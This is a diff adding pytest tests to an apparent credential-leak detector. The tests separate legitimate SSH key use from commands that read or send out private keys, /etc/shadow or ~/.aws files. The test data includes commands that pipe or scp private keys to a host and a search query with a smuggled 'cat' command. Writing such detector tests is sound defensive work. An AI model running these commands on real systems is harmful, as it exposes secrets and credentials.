@@ -101,6 +101,75 @@ def test_files_with_credentials_are_known(text: str) -> None:
     assert PATH in find_leaks(text)
 
 
+@pytest.mark.parametrize(
+    ("used", "read"),
+    [
+        ("ssh-add ~/.ssh/{}", "cat ~/.ssh/{}"),
+        ('eval "$(ssh-agent -s)" && ssh-add ~/.ssh/{}', 'eval "$(cat ~/.ssh/{})"'),
+        ("ssh -i ~/.ssh/{} deploy@host.test uptime", "ssh deploy@host.test < ~/.ssh/{}"),
+        ("scp -i ~/.ssh/{} a.txt u@host.test:", "scp -i ~/.ssh/{0} ~/.ssh/{0} u@host.test:"),
+        ("chmod 600 ~/.ssh/{}", "chmod 644 ~/.ssh/{}"),
+        ("chmod 700 /srv/.ssh/ && chmod 0600 /srv/.ssh/{}", "chmod 600 x; cat /srv/.ssh/{}"),
+        ("cp .env.example .env", "cp .env .env.example"),
+        ("source ~/.bashrc && make", "cat x >> ~/.bashrc && make"),
+        (". ~/.profile", "tee ~/.profile"),
+    ],
+)
+@pytest.mark.parametrize("key", ["id_ed25519", "deploy"])
+def test_a_file_that_is_used_on_the_spot_does_not_leave(used: str, read: str, key: str) -> None:
+    """To log in, closed to others, made of an example; the same file, read or written, is told."""
+    assert PATH not in find_leaks(used.format(key), "command")
+    assert PATH in find_leaks(read.format(key), "command")
+    assert PATH in find_leaks(f"x=$(echo /); {used.format(key)}", "command")
+
+
+@pytest.mark.parametrize("path", ["/etc/shadow", "~/.aws/credentials"])
+def test_what_a_search_is_about_is_no_path(path: str) -> None:
+    """In words; a path by itself, a command or one elsewhere in a URL is told."""
+    words = quote(f"what is the format of {path}", safe="").replace("%20", "+")
+
+    assert PATH not in find_leaks(f"https://search.test/?q={words}&ia=web")
+    for asked in (f"q={quote(path)}", f"file={words}", f"q={words}%3B+cat+{quote(path)}"):
+        assert PATH in find_leaks(f"https://search.test/?{asked}")
+
+
+def test_a_host_below_a_top_level_domain_is_no_folder() -> None:
+    """`.aws` and `.docker` are both."""
+    assert PATH not in find_leaks("https://repost.aws/questions/1")
+    assert PATH in find_leaks("https://x.test/get?f=~/.aws/config")
+
+
+ONCE = "Xk3dVfQ8yZr2LmTnBaWqPoIuYtReWqAsDfGhJkLm9n8"
+"""As long as 32 bytes in base 64."""
+
+
+@pytest.mark.parametrize(
+    ("url", "elsewhere"),
+    [
+        (
+            "https://id.test/authorize?response_type=code&client_id=a&state={}",
+            "https://id.test/authorize?client_id=a&state={}",
+        ),
+        (
+            "https://id.test/authorize?response_type=code&client_id=a&nonce={}",
+            "https://id.test/authorize?response_type=code&client_id=a&note={}",
+        ),
+        ("https://app.test/callback?code=4f1c&state={}", "https://app.test/callback?state={}"),
+        (
+            "http://app.test/.well-known/acme-challenge/{}",
+            "http://app.test/well-known/acme-challenge/{}",
+        ),
+    ],
+)
+def test_what_a_standard_has_drawn_once_may_be_as_long_as_a_digest(
+    url: str, elsewhere: str
+) -> None:
+    """State and nonce of a login, proof of a name; not longer, and not elsewhere."""
+    assert not carries(url.format(ONCE))
+    assert carries(url.format(ONCE + "xY7"))
+    assert carries(elsewhere.format(ONCE))
+
+
 HOMES = ("~/.ssh/", "/srv/ci/.ssh/", "keys/", "")
 KEYS = ("id_rsa", "id_ed25519", "id_ecdsa")
 
